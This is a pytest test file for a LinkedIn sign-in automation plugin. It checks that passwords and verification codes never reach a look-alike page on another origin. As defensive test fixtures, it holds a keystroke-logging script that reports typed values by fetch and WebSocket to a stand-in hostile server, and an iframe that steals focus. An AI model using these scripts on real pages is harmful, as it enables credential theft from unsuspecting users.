"""A sign-in page that leads elsewhere gets nothing: no keystroke, no value, no post.

Each test points LinkedIn's plugin at a small site on a loopback port (the platform's
own origin, as a config may name it) whose sign-in page goes to another loopback site:
a redirect, a script that moves the page after it loaded, a form in that site's frame,
a frame that takes the focus, a verification page that moves on while the code is being
asked for. The other site's page listens to every key and input and reports it by
fetch and WebSocket to its own server, whose record is checked afterwards.
"""

from __future__ import annotations

import asyncio
import os
import signal
import threading
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from automation.accounts import secrets
from automation.accounts.secrets import Credentials, KeyringCredentials
from automation.accounts.sessions import MemorySessions
from automation.domain.settings import State
from automation.domain.walls import LoginForm
from automation.engine.core import Engine, Options
from automation.plugins.linkedin import LinkedIn
from tests.hostile_hosts import Answer, Host, Seen, hosts
from tests.processes import browsers_below, cmdline

pytestmark = pytest.mark.browser

AI = "linkedin.ai_training"
USERNAME, PASSWORD, CODE = "person@example.com", "pw-never-leaves-9q7x", "864213"

#: Reports every key and every input on the page to the page's own server.
LISTENER = """<script>
const report = (e) => {
  const v = (e.target.name || e.target.id || '?') + '=' + (e.target.value || e.key || '');
  fetch('/typed?' + encodeURIComponent(v)).catch(() => {});
  try { const ws = new WebSocket('ws://' + location.host + '/typed');
        ws.onopen = () => ws.send(v); } catch (x) {}
};
for (const kind of ['keydown', 'input', 'change']) document.addEventListener(kind, report, true);
</script>"""

#: LinkedIn's sign-in form as the plugin looks for it.
FORM = """<form method="post" action="/login">
<input id="username" name="session_key"><input id="password" name="session_password"
type="password"><button type="submit">Sign in</button></form>"""

#: LinkedIn's verification page as the plugin looks for it.
PIN = """<form method="post" action="/checkpoint/pin"><input name="pin">
<button type="submit">Submit</button></form>"""


@pytest.fixture
def sites() -> Iterator[tuple[Host, Host]]:
    """The platform's own site and another one, which serves look-alike forms."""
    with hosts("platform", "elsewhere") as (home, away):
        away.page("/login", FORM + LISTENER)
        away.page("/frame", FORM + LISTENER)
        away.page("/checkpoint/pin", PIN + LISTENER)
        away.otherwise = Answer(200, "<p>elsewhere</p>" + LISTENER)
        # Every page of the platform's own asks a visitor to sign in.
        home.otherwise = Answer(302, "", (("Location", "/authwall"),))
        home.page("/authwall", '<h1>Join LinkedIn</h1><a href="/login">Sign in</a>')
        yield home, away


def got_nothing(away: Host, *secrets_: str) -> None:
    """Nothing typed reached the other site: no post, no report, no secret anywhere."""
    got = away.got()
    assert away.posts() == [], got
    assert not [s for s in away.requests if s.path.startswith("/typed")], got
    assert away.messages == [], got
    for secret in secrets_:
        assert not away.holds(secret), got


def visited(away: Host, path: str) -> bool:
    return any(s.path.startswith(path) for s in away.requests)


@pytest.mark.parametrize("light", [False, True], ids=["whole", "light"])
async def test_a_sign_in_page_redirected_elsewhere_gets_nothing(
    make_engine: Callable[..., Engine], sites: tuple[Host, Host], light: bool
) -> None:
    home, away = sites
    home.redirect("/login", away.url("/login"))
    engine = make_engine(LinkedIn(home.origin), signed_in=False)
    engine.options.light = light

    wall = await engine.sign_in("linkedin", Credentials(USERNAME, PASSWORD))

    got_nothing(away, USERNAME, PASSWORD)
    assert wall is not None and wall.kind == "origin"
    assert f"went to {away.origin}," in wall.detail and "nothing was typed" in wall.detail
    if not light:
        assert visited(away, "/login"), "the browser did land on the other site's form"


async def test_a_stored_password_is_not_used_on_a_redirected_page(
    make_engine: Callable[..., Engine], sites: tuple[Host, Host]
) -> None:
    """A check that finds the account signed out signs in with the stored password; the
    sign-in page goes elsewhere: the setting reads needs login, with where it went."""
    home, away = sites
    home.redirect("/login", away.url("/login"))
    secrets.set_credentials("linkedin", Credentials(USERNAME, PASSWORD))
    engine = make_engine(LinkedIn(home.origin), signed_in=False, credentials=KeyringCredentials())
    engine.options.light = False

    [reading] = await engine.check([AI])

    got_nothing(away, USERNAME, PASSWORD)
    assert visited(away, "/login")
    assert reading.state is State.NEEDS_LOGIN
    assert away.origin in reading.detail and "nothing was typed" in reading.detail


async def test_a_sign_in_page_a_script_moves_elsewhere_gets_nothing(
    make_engine: Callable[..., Engine], sites: tuple[Host, Host]
) -> None:
    """The sign-in page loads on the platform's own origin, then its script moves it to
    the other site's form, which is the one the plugin's selectors find."""
    home, away = sites
    home.page(
        "/login",
        "<p>Loading...</p><script>addEventListener('load', () => setTimeout(() => "
        f"{{ location.href = '{away.url('/login')}'; }}, 100));</script>",
    )
    engine = make_engine(LinkedIn(home.origin), signed_in=False)
    engine.options.light = False

    wall = await engine.sign_in("linkedin", Credentials(USERNAME, PASSWORD))

    got_nothing(away, USERNAME, PASSWORD)
    assert visited(away, "/login")
    assert wall is not None and wall.kind == "origin"
    assert f"went to {away.origin}," in wall.detail


@pytest.mark.parametrize("how", ["action", "formaction"])
async def test_a_form_that_sends_elsewhere_is_not_sent(
    make_engine: Callable[..., Engine], sites: tuple[Host, Host], how: str
) -> None:
    """The sign-in page is the platform's own, but its form (or its button) sends what
    is typed to the other site."""
    home, away = sites
    form = (
        FORM.replace('action="/login"', f'action="{away.url("/login")}"')
        if how == "action"
        else FORM.replace('type="submit"', f'type="submit" formaction="{away.url("/login")}"')
    )
    home.page("/login", form)
    engine = make_engine(LinkedIn(home.origin), signed_in=False)
    engine.options.light = False

    wall = await engine.sign_in("linkedin", Credentials(USERNAME, PASSWORD))

    got_nothing(away, USERNAME, PASSWORD)
    assert wall is not None and wall.kind == "origin"
    assert f"sends its form to {away.origin}," in wall.detail and "not sent" in wall.detail


class FramedLinkedIn(LinkedIn):
    """LinkedIn as if its sign-in form were drawn inside a frame on its sign-in page."""

    login_form = LoginForm(
        path="/login",
        username="iframe >> internal:control=enter-frame >> #username",
        password="iframe >> internal:control=enter-frame >> #password",
        submit='iframe >> internal:control=enter-frame >> button[type="submit"]',
    )


async def test_a_form_in_another_sites_frame_gets_nothing(
    make_engine: Callable[..., Engine], sites: tuple[Host, Host]
) -> None:
    """The page is the platform's own, the form in it is another site's."""
    home, away = sites
    home.page("/login", f'<h1>Sign in</h1><iframe src="{away.url("/frame")}"></iframe>')
    engine = make_engine(FramedLinkedIn(home.origin), signed_in=False)
    engine.options.light = False

    wall = await engine.sign_in("linkedin", Credentials(USERNAME, PASSWORD))

    got_nothing(away, USERNAME, PASSWORD)
    assert visited(away, "/frame")
    assert wall is not None and wall.kind == "origin"
    assert f"shows its form from {away.origin}," in wall.detail


async def test_a_frame_that_takes_the_focus_gets_nothing(
    make_engine: Callable[..., Engine], sites: tuple[Host, Host]
) -> None:
    """The form is the platform's own, but another site's frame on the page keeps taking
    the focus, where typed keys would go: the values go into the form's own fields."""
    home, away = sites
    away.page(
        "/thief",
        "<input id='steal' name='steal'><script>const s = document.getElementById('steal');"
        "setInterval(() => { if (document.activeElement !== s) s.focus(); }, 0);</script>"
        + LISTENER,
    )
    posted: list[Seen] = []

    def refused(seen: Seen) -> Answer:
        if seen.method == "POST":
            posted.append(seen)
        return Answer(200, f'<h1>Sign in</h1>{FORM}<iframe src="{away.url("/thief")}"></iframe>')

    home.routes["/login"] = refused
    engine = make_engine(LinkedIn(home.origin), signed_in=False)
    engine.options.light = False

    wall = await engine.sign_in("linkedin", Credentials(USERNAME, PASSWORD))

    got_nothing(away, USERNAME, PASSWORD)
    assert visited(away, "/thief")
    # The platform's own form was filled and sent, and said no.
    assert wall is not None and wall.kind == "login", wall
    [sent] = posted
    assert sent.holds(USERNAME) and sent.holds(PASSWORD)


async def test_a_verification_page_that_moves_elsewhere_gets_no_code(
    make_engine: Callable[..., Engine], sites: tuple[Host, Host]
) -> None:
    """The password is taken on the platform's own page, which then asks for a code and,
    while the person reads it from their mail, moves to the other site's code form."""
    home, away = sites
    posted: list[Seen] = []

    def login(seen: Seen) -> Answer:
        if seen.method == "POST":
            posted.append(seen)
            return Answer(302, "", (("Location", "/checkpoint/challenge/1"),))
        return Answer(200, FORM)

    home.routes["/login"] = login
    # The page moves once the person has been asked (it asks its server when to go).
    moving = threading.Event()
    home.routes["/go"] = lambda seen: Answer(200, "yes" if moving.is_set() else "no")
    home.page(
        "/checkpoint/challenge/1",
        PIN + "<script>setInterval(() => fetch('/go').then((r) => r.text()).then((go) => {"
        f" if (go === 'yes') location.href = '{away.url('/checkpoint/pin')}'; }}), 50);</script>",
    )
    asked: list[str] = []

    async def ask(platform: str, detail: str) -> str:
        asked.append(detail)
        moving.set()
        # The person finds the code in their mail meanwhile.
        for _ in range(200):
            if visited(away, "/checkpoint/pin"):
                break
            await asyncio.sleep(0.05)
        await asyncio.sleep(0.5)
        return CODE

    engine = make_engine(LinkedIn(home.origin), signed_in=False, ask_code=ask)
    engine.options.light = False

    wall = await engine.sign_in("linkedin", Credentials(USERNAME, PASSWORD))

    got_nothing(away, USERNAME, PASSWORD, CODE)
    assert len(posted) == 1 and len(asked) == 1
    assert visited(away, "/checkpoint/pin")
    assert wall is not None and wall.kind == "origin"
    assert f"verification page went to {away.origin}," in wall.detail


async def test_a_browser_killed_while_signing_in_reads_error(
    chromium: str, sites: tuple[Host, Host], tmp_path: Path
) -> None:
    """Not ``needs login``: nothing was learnt about the account. The engine has a
    browser of its own here, the one killed."""
    home, _ = sites
    reached, release = asyncio.Event(), threading.Event()
    loop = asyncio.get_running_loop()

    def hold(seen: Seen) -> Answer:
        loop.call_soon_threadsafe(reached.set)
        release.wait(30)
        return Answer(200, FORM)

    home.routes["/login"] = hold
    secrets.set_credentials("linkedin", Credentials(USERNAME, PASSWORD))
    options = Options(executable=chromium, timeout=15, log_path=tmp_path / "engine.log")
    engine = Engine(
        [LinkedIn(home.origin)],
        options,
        sessions=MemorySessions(),
        credentials=KeyringCredentials(),
    )
    running_before = set(browsers_below())
    try:
        checking = asyncio.ensure_future(engine.check([AI]))
        try:
            await asyncio.wait_for(reached.wait(), 30)
            # The engine's browser (and the script that started it, where there is one).
            started = [p for p in browsers_below() if p not in running_before]
            for pid in [p for p in started if "--type=" not in cmdline(p)]:
                os.kill(pid, signal.SIGKILL)
        finally:
            release.set()
        [reading] = await asyncio.wait_for(checking, 60)
    finally:
        await asyncio.wait_for(engine.close(), 30)
    assert reading.state is State.ERROR, reading
    assert "browser" in reading.detail.lower()
